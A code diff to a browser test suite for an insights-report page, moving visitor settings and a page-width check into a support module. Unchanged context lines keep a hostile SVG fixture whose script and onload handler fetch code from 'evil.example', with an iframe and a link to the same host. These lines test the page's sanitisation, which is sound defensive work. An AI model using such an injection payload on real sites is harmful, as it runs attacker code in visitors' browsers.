@@ -10,6 +10,7 @@ import { describeInBrowser } from '../support/in-browser.ts';
 import { wasRun, watchRequests } from '../support/requests.ts';
 import { sampleAnswer } from '../support/sample-answer.ts';
 import { sampleInsight, sampleReport } from '../support/sample-report.ts';
+import { isTooWide, visitors } from '../support/visitors.ts';
 
 const hostileChart = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="100" onload="top.stolen = 1">
   <script>top.stolen = 1; fetch("http://evil.example/script")</script>
@@ -19,13 +20,6 @@ const hostileChart = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http:
   <foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example/frame"></iframe></foreignObject>
   <a href="http://evil.example/link"><rect width="300" height="100"/></a>
 </svg>`;
-
-const visitors = [
-  { theme: 'light', width: 1280, language: 'pt' },
-  { theme: 'dark', width: 1280, language: 'en' },
-  { theme: 'light', width: 360, language: 'en' },
-  { theme: 'dark', width: 360, language: 'pt' },
-] as const;
 
 describeInBrowser('a report of insights', ({ url, enter }) => {
   async function openReport(report: InsightReport, visitor: VisitorOptions = {}): Promise<Page> {
@@ -44,7 +38,7 @@ describeInBrowser('a report of insights', ({ url, enter }) => {
     expect(await seriousFaults(page)).toEqual([]);
     await page.getByRole('button', { name: /^(?:Corrigir colunas|Correct columns)$/ }).click();
     expect(await seriousFaults(page)).toEqual([]);
-    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(visitor.width);
+    expect(await isTooWide(page)).toBe(false);
   });
 
   it('runs and loads nothing that stands in the cells and names of a table', async () => {
